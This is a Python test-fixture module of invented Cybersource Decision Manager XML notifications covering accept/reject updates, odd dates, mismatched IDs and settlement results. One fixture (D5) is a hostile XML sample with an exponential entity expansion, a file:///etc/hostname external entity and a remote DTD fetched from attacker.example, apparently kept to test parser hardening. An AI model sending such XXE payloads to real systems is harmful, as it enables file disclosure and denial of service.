"""Decision Manager's messages as the dossier of captured shapes has them, to the byte. Values are invented."""

# ruff: noqa: E501

from urllib.parse import quote

#: One ACCEPT.
D1 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 10:05:47 GMT" Version="1.1">
  <Update MerchantReferenceNumber="100019" RequestID="7312345812346012504013">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>ACCEPT</NewDecision>
    <Reviewer>lena.review</Reviewer>
    <ReviewerComments>Spoke to customer. | Billing and shipping agree.</ReviewerComments>
    <Notes>
      <Note Date="2026-03-04 10:02:11" AddedBy="lena.review" Comment="Took ownership."/>
    </Notes>
    <Queue>Review Queue</Queue>
    <Profile>Auths over &lt; 1,000 &amp; new device</Profile>
  </Update>
</CaseManagementOrderStatus>
"""

#: Three cases: accepted, rejected, and merely taken into ownership.
D2 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 10:47:10 GMT" Version="1.1">
  <Update MerchantReferenceNumber="100019" RequestID="7312345812346012504013">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>ACCEPT</NewDecision>
    <Reviewer>dm_api</Reviewer>
    <Queue>Review Queue</Queue>
    <Profile>Auths</Profile>
  </Update>
  <Update MerchantReferenceNumber="100031" RequestID="7312347012346013204021">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>REJECT</NewDecision>
    <Reviewer>omar</Reviewer>
    <ReviewerComments>Reshipper address. | Suspected fraud.</ReviewerComments>
    <Notes>
      <Note Date="2026-03-04 10:41:00" AddedBy="omar" Comment="Took ownership."/>
      <Note Date="2026-03-04 10:44:31" AddedBy="omar" Comment="Called: number not in service"/>
    </Notes>
    <Queue>Review Queue</Queue>
    <Profile>Auths</Profile>
  </Update>
  <Update MerchantReferenceNumber="100032" RequestID="7312347112346013304022">
    <OriginalDecision>REVIEW</OriginalDecision>
    <Reviewer>omar</Reviewer>
    <Notes>
      <Note Date="2026-03-04 10:46:02" AddedBy="omar" Comment="Took ownership."/>
    </Notes>
    <Queue>High value</Queue>
    <Profile>Auths</Profile>
  </Update>
</CaseManagementOrderStatus>
"""

#: Notes with odd dates.
D3 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-29 01:31:05 GMT" Version="1.1">
  <Update MerchantReferenceNumber="100033" RequestID="7312347212346013404023">
    <OriginalDecision>REVIEW</OriginalDecision>
    <Reviewer>Zoë</Reviewer>
    <Notes>
      <Note Date="2026-03-29 02:30:00" AddedBy="Zoë" Comment="Zone-less, inside the European spring gap"/>
      <Note Date="2026-03-29 02:30:00" AddedBy="Zoë" Comment="Same second, different text"/>
      <Note Date="2026-03-29 01:30:00 GMT" AddedBy="Bea" Comment="With GMT suffix"/>
      <Note Date="2026-03-28 18:30:00 PST" AddedBy="Bea" Comment="Abbreviated US zone"/>
      <Note Date="2026-03-29T03:30:00+02:00" AddedBy="Bea" Comment="ISO offset"/>
      <Note Date="" AddedBy="" Comment=""/>
      <Note AddedBy="Bea" Comment="No date at all; &quot;quotes&quot; &#10;and a line break"/>
    </Notes>
    <Queue>Revisão Manual</Queue>
    <Profile>Auths</Profile>
  </Update>
</CaseManagementOrderStatus>
"""

#: An order nobody placed, and a real order with a request id that is not its own.
D4 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 11:00:00 GMT" Version="1.1">
  <Update MerchantReferenceNumber="NO-SUCH-ORDER" RequestID="7300000000000000000000">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>ACCEPT</NewDecision>
    <Reviewer>omar</Reviewer>
    <Queue>Review Queue</Queue>
    <Profile>Auths</Profile>
  </Update>
  <Update MerchantReferenceNumber="100031" RequestID="7399999999999999999999">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>REJECT</NewDecision>
    <Reviewer>omar</Reviewer>
    <Queue>Review Queue</Queue>
    <Profile>Auths</Profile>
  </Update>
</CaseManagementOrderStatus>
"""

#: Entities that multiply, a local file, a remote DTD.
D5 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus [
  <!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY file SYSTEM "file:///etc/hostname">
  <!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;
]>
<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 11:10:00 GMT" Version="1.1">
  <Update MerchantReferenceNumber="100019" RequestID="7312345812346012504013">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>ACCEPT</NewDecision>
    <Reviewer>&file;</Reviewer>
    <ReviewerComments>&c;</ReviewerComments>
  </Update>
</CaseManagementOrderStatus>
"""

#: The Business Center's test message, whose date has no zone.
D6 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 11:15:19" Version="1.1">
  <Update MerchantReferenceNumber="100034" RequestID="7312348012346013504024">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>REJECT</NewDecision>
    <Reviewer>acme_shop</Reviewer>
    <ReviewerComments>This is a test message(1).</ReviewerComments>
    <Queue>TestQueue(1)</Queue>
    <Profile>TestProfile(1)</Profile>
  </Update>
</CaseManagementOrderStatus>
"""

#: ACCEPT with the settlement that the reviewer started.
D7 = """\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CaseManagementOrderStatus SYSTEM "https://ebctest.cybersource.com/ebctest/reports/dtd/cmorderstatus_1_1.dtd">

<CaseManagementOrderStatus xmlns="http://reports.cybersource.com/reports/cmos/1.0" MerchantID="acme_shop" Name="Case Management Order Status" Date="2026-03-04 11:20:33 GMT" Version="1.1">
  <Update MerchantReferenceNumber="100019" RequestID="7312345812346012504013">
    <OriginalDecision>REVIEW</OriginalDecision>
    <NewDecision>ACCEPT</NewDecision>
    <Reviewer>lena.review</Reviewer>
    <ReviewerComments>Settle now</ReviewerComments>
    <Queue>Review Queue</Queue>
    <Profile>Auths</Profile>
    <FollowonResult>
      <Status>Success</Status>
      <Application>Credit Card Settlement</Application>
      <RequestID>7312349012346013604025</RequestID>
      <Decision>Accept</Decision>
      <ReasonCode>100</ReasonCode>
      <RCode>1</RCode>
      <RFlag>SOK</RFlag>
      <RMsg>Request was processed successfully.</RMsg>
    </FollowonResult>
  </Update>
</CaseManagementOrderStatus>
"""

#: The body in which D1 arrives, with the stray last field of genuine messages.
D1_BODY = (
    "content=%3C%3Fxml%20version%3D%221.0%22%20encoding%3D%22UTF-8%22%3F%3E%0A%3C%21DOCTYPE%20CaseManagem"
    "entOrderStatus%20SYSTEM%20%22https%3A%2F%2Febctest.cybersource.com%2Febctest%2Freports%2Fdtd%2Fcmord"
    "erstatus_1_1.dtd%22%3E%0A%0A%3CCaseManagementOrderStatus%20xmlns%3D%22http%3A%2F%2Freports.cybersour"
    "ce.com%2Freports%2Fcmos%2F1.0%22%20MerchantID%3D%22acme_shop%22%20Name%3D%22Case%20Management%20Orde"
    "r%20Status%22%20Date%3D%222026-03-04%2010%3A05%3A47%20GMT%22%20Version%3D%221.1%22%3E%0A%20%20%3CUpd"
    "ate%20MerchantReferenceNumber%3D%22100019%22%20RequestID%3D%227312345812346012504013%22%3E%0A%20%20%"
    "20%20%3COriginalDecision%3EREVIEW%3C%2FOriginalDecision%3E%0A%20%20%20%20%3CNewDecision%3EACCEPT%3C%"
    "2FNewDecision%3E%0A%20%20%20%20%3CReviewer%3Elena.review%3C%2FReviewer%3E%0A%20%20%20%20%3CReviewerC"
    "omments%3ESpoke%20to%20customer.%20%7C%20Billing%20and%20shipping%20agree.%3C%2FReviewerComments%3E%"
    "0A%20%20%20%20%3CNotes%3E%0A%20%20%20%20%20%20%3CNote%20Date%3D%222026-03-04%2010%3A02%3A11%22%20Add"
    "edBy%3D%22lena.review%22%20Comment%3D%22Took%20ownership.%22%2F%3E%0A%20%20%20%20%3C%2FNotes%3E%0A%2"
    "0%20%20%20%3CQueue%3EReview%20Queue%3C%2FQueue%3E%0A%20%20%20%20%3CProfile%3EAuths%20over%20%26lt%3B"
    "%201%2C000%20%26amp%3B%20new%20device%3C%2FProfile%3E%0A%20%20%3C%2FUpdate%3E%0A%3C%2FCaseManagement"
    "OrderStatus%3E%0A&undefined="
).encode("ascii")


def body_of(xml: str) -> bytes:
    """The form body that carries a document."""
    return f"content={quote(xml, safe='')}&undefined=".encode("ascii")
